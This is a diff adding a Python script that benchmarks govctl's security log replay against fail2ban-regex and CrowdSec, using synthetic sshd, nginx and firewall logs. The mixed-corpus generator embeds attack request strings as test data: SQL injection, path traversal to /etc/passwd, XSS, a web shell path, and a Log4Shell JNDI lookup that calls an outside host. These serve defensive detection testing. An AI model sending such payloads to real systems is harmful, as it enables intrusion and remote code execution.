@@ -1,0 +1,209 @@
+#!/usr/bin/env python3
+"""Replay throughput of `govctl secops replay` against fail2ban-regex and CrowdSec, side by side.
+
+usage: .venv/bin/python bench/secops_replay.py [--lines 200000] [--out results.json]
+
+1. Writes the shared sshd corpus (../shared/bench/gen_auth_corpus.py) and runs the peers on it
+   (../shared/bench/peers.sh). CrowdSec's alerted addresses are read from its own logs, which a thin
+   wrapper around its binary copies aside (peers.sh deletes its work folder).
+2. Replays the same file with govctl, pinned to one core (taskset -c 0), wall clock of the whole
+   command (start-up included, as for the peers), with and without writing the SQLite store.
+3. Replays a mixed corpus (auth + nginx + firewall) with all bundled rules.
+Prints one JSON document and a Markdown table for docs/benchmarks.md.
+"""
+from __future__ import annotations
+
+import argparse
+import ipaddress
+import json
+import os
+import random
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+SHARED = Path(os.environ.get("GOVCTL_SHARED_BENCH", ROOT.parent / "shared" / "bench"))
+GOVCTL = ROOT / ".venv" / "bin" / "govctl"
+OPS = ipaddress.ip_network("10.20.0.0/16")
+
+# CrowdSec 1.4.6's replay sometimes finishes its work and then never exits (seen here under load:
+# "Bucket routine exiting", alerts printed, process still alive minutes later). This wrapper runs the
+# real binary, notes when its output has settled after that marker, stops it, and records that time
+# and the logs (peers.sh deletes its work folder) in $capture.
+_WRAPPER = """#!{python}
+import json, os, signal, subprocess, sys, time
+REAL, CAPTURE = {real!r}, {capture!r}
+args = sys.argv[1:]
+if "-dsn" not in args:
+    os.execv(REAL, [REAL, *args])
+work = os.path.dirname(args[args.index("-c") + 1])
+out = os.path.join(work, "replay.out")  # the replay's own log lines (the local API logs elsewhere)
+start = time.monotonic()
+proc = subprocess.Popen([REAL, *args])
+marker_seen, last_size, last_change, hung = False, -1, start, False
+while proc.poll() is None:
+    time.sleep(0.05)
+    text = open(out, errors="replace").read() if os.path.exists(out) else ""
+    if len(text) != last_size:
+        last_size, last_change = len(text), time.monotonic()
+    marker_seen = marker_seen or "Bucket routine exiting" in text
+    if marker_seen and time.monotonic() - last_change > 3:
+        hung = True
+        proc.send_signal(signal.SIGTERM)
+        proc.wait(10)
+        break
+end = last_change if hung else time.monotonic()
+time.sleep(1)
+logs = "".join(open(os.path.join(d, f), errors="replace").read()
+               for d in (work, os.path.join(work, "log")) for f in os.listdir(d) if f.endswith((".out", ".log")))
+with open(CAPTURE, "w") as f:
+    json.dump({{"processing_seconds": end - start, "stopped_after_hang": hung, "marker_seen": marker_seen,
+               "log": logs}}, f)
+sys.exit(0)
+"""
+
+
+def run_peers(log: Path, work: Path) -> dict:
+    real_root = Path(os.environ.get("PEERS_DIR", "/opt/govctl-peers")) / "crowdsec"
+    if not (real_root / "usr/bin/crowdsec").exists():  # first run: let peers.sh unpack CrowdSec
+        subprocess.run(["bash", str(SHARED / "peers.sh"), str(log)], check=True, capture_output=True)
+    fake = work / "peers" / "crowdsec"
+    (fake / "usr" / "bin").mkdir(parents=True)
+    (fake / "usr" / "share").mkdir(parents=True)
+    (fake / "etc").mkdir(parents=True)
+    (fake / "usr/share/crowdsec").symlink_to(real_root / "usr/share/crowdsec")
+    (fake / "etc/crowdsec").symlink_to(real_root / "etc/crowdsec")
+    (fake / "usr/bin/cscli").symlink_to(real_root / "usr/bin/cscli")
+    capture = work / "crowdsec-capture.log"
+    wrapper = fake / "usr/bin/crowdsec"
+    wrapper.write_text(_WRAPPER.format(python=sys.executable, real=str(real_root / "usr/bin/crowdsec"),
+                                       capture=str(capture)))
+    wrapper.chmod(0o755)
+    env = {**os.environ, "PEERS_DIR": str(work / "peers")}
+    out = subprocess.run(["bash", str(SHARED / "peers.sh"), str(log)], check=True, capture_output=True,
+                         text=True, env=env).stdout
+    f2b = re.search(r"fail2ban-regex: (\d+) lines in ([\d.]+) s wall; (.*)", out)
+    cs = re.search(r"crowdsec replay: (\d+) lines in ([\d.]+) s wall; distinct sources alerted: (\d+)", out)
+    if not f2b or not cs:
+        raise SystemExit(f"could not read peers.sh output:\n{out}")
+    seen = json.loads(capture.read_text())
+    cs_sources = sorted(set(re.findall(r"Ip ([0-9.]+) performed", seen["log"])))
+    lines = int(cs.group(1))
+    return {
+        "fail2ban_regex": {"seconds": float(f2b.group(2)), "lines_per_second": round(int(f2b.group(1)) / float(f2b.group(2))),
+                           "summary": f2b.group(3).strip()},
+        "crowdsec": {"peers_sh_wall_seconds": float(cs.group(2)), "seconds": round(seen["processing_seconds"], 3),
+                     "lines_per_second": round(lines / seen["processing_seconds"]),
+                     "stopped_after_hang": seen["stopped_after_hang"],
+                     "sources_alerted": int(cs.group(3)), "sources": cs_sources},
+    }
+
+
+def govctl_replay(files: list[Path], extra: list[str]) -> tuple[float, dict]:
+    cmd = ["taskset", "-c", "0", str(GOVCTL), "secops", "replay", *map(str, files), "--allow", str(OPS),
+           "--year", "2026", "--json", *extra]
+    start = time.perf_counter()
+    proc = subprocess.run(cmd, capture_output=True, text=True)
+    wall = time.perf_counter() - start
+    if proc.returncode != 0:
+        raise SystemExit(f"govctl replay failed: {proc.stderr}")
+    return wall, json.loads(proc.stdout)
+
+
+def mixed_corpus(path: Path, lines: int, seed: int = 7) -> None:
+    """nginx access (mostly benign, some attacks) and firewall drops (some scans), 2026-11-01."""
+    rnd = random.Random(seed)
+    t = 1793491200.0
+    benign = ["/", "/news/2026/11/01.html", "/static/app.js", "/api/v1/services?page=2", "/search?q=社保"]
+    attacks = ["/index.php?id=1%20union%20select%201,2,3", "/../../etc/passwd", "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
+               "/uploads/shell.php", "/?x=${jndi:ldap://203.0.113.9/a}"]
+    with open(path, "w", encoding="utf-8") as f:
+        for _ in range(lines):
+            t += rnd.uniform(0.001, 0.05)
+            r = rnd.random()
+            stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))
+            if r < 0.55:
+                ip = f"198.18.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+                f.write(f'{ip} - - [{stamp}] "GET {rnd.choice(benign)} HTTP/1.1" 200 {rnd.randint(100, 90000)} '
+                        f'"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"\n')
+            elif r < 0.6:
+                ip = f"203.0.113.{rnd.randint(100, 140)}"
+                agent = rnd.choice(["sqlmap/1.7", "Mozilla/5.0", "Nikto/2.1.6"])
+                f.write(f'{ip} - - [{stamp}] "GET {rnd.choice(attacks)} HTTP/1.1" 404 153 "-" "{agent}"\n')
+            else:
+                bsd = time.strftime("%b %e %H:%M:%S", time.gmtime(t))
+                scanner = r < 0.65
+                ip = f"203.0.113.{rnd.randint(200, 220)}" if scanner else f"198.18.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+                port = rnd.randint(1, 1024) if scanner else rnd.choice([23, 445, 3389])
+                f.write(f"{bsd} fw-prod kernel: [{t % 100000:.3f}] govctl-drop: IN=eth0 OUT= SRC={ip} DST=10.11.1.10 "
+                        f"LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID=1 PROTO=TCP SPT={rnd.randint(1024, 65535)} DPT={port} "
+                        "WINDOW=1024 RES=0x00 SYN URGP=0\n")
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--lines", type=int, default=200_000)
+    ap.add_argument("--out", type=Path)
+    ap.add_argument("--keep", action="store_true", help="keep the work folder (corpora, CrowdSec capture)")
+    a = ap.parse_args()
+    work = Path(tempfile.mkdtemp(prefix="secops-bench-"))
+    try:
+        log = work / "auth.log"
+        truth = json.loads(subprocess.run([sys.executable, str(SHARED / "gen_auth_corpus.py"), str(log), "--lines",
+                                           str(a.lines)], check=True, capture_output=True, text=True).stdout)
+        peers = run_peers(log, work)
+        wall, ours = govctl_replay([log], [])
+        wall_store, ours_store = govctl_replay([log], ["--store", str(work / "bench.db")])
+        ours_sources = sorted({x["source.ip"] for x in ours["alerts"] if x["source.ip"]})
+        cs_sources = set(peers["crowdsec"]["sources"])
+        mixed = work / "mixed.log"
+        mixed_corpus(mixed, a.lines // 2)
+        mixed_wall, mixed_out = govctl_replay([log, mixed], [])
+        result = {
+            "corpus": {"lines": a.lines, **truth},
+            "machine": f"{os.cpu_count()} cores, {round(os.sysconf('SC_PAGE_SIZE') * os.sysconf('SC_PHYS_PAGES') / 2**30)} GiB",
+            "load_average_at_start": os.getloadavg(),
+            **peers,
+            "govctl": {"wall_seconds": round(wall, 3), "lines_per_second_wall": round(a.lines / wall),
+                       "engine_seconds": ours["seconds"], "lines_per_second_engine": ours["lines_per_second"],
+                       "alerts": len(ours["alerts"]), "sources_alerted": len(ours_sources),
+                       "blocked": len(ours["blocked"]),
+                       "ops_addresses_alerted": sorted(s for s in ours_sources if ipaddress.ip_address(s) in OPS),
+                       "ops_addresses_blocked": sorted(s for s in ours["blocked"] if ipaddress.ip_address(s) in OPS),
+                       "crowdsec_sources_missed": sorted(cs_sources - set(ours_sources)),
+                       "crowdsec_sources_caught": len(cs_sources & set(ours_sources))},
+            "govctl_with_store": {"wall_seconds": round(wall_store, 3), "lines_per_second_wall": round(a.lines / wall_store),
+                                  "lines_per_second_engine": ours_store["lines_per_second"]},
+            "mixed": {"lines": mixed_out["lines"], "wall_seconds": round(mixed_wall, 3),
+                      "lines_per_second_wall": round(mixed_out["lines"] / mixed_wall),
+                      "lines_per_second_engine": mixed_out["lines_per_second"], "unparsed": mixed_out["unparsed"],
+                      "alerts_by_rule": _count(mixed_out["alerts"]), "blocked": len(mixed_out["blocked"])},
+        }
+        g, f, c = result["govctl"], result["fail2ban_regex"], result["crowdsec"]
+        result["ratios_wall"] = {"vs_fail2ban_regex": round(g["lines_per_second_wall"] / f["lines_per_second"], 2),
+                                 "vs_crowdsec": round(g["lines_per_second_wall"] / c["lines_per_second"], 2)}
+        text = json.dumps(result, indent=2, ensure_ascii=False)
+        print(text)
+        if a.out:
+            a.out.write_text(text + "\n")
+    finally:
+        if a.keep:
+            print(f"kept {work}", file=sys.stderr)
+        else:
+            shutil.rmtree(work, ignore_errors=True)
+
+
+def _count(alerts: list[dict]) -> dict[str, int]:
+    out: dict[str, int] = {}
+    for x in alerts:
+        out[x["rule"]] = out.get(x["rule"], 0) + 1
+    return dict(sorted(out.items()))
+
+
+if __name__ == "__main__":
+    main()
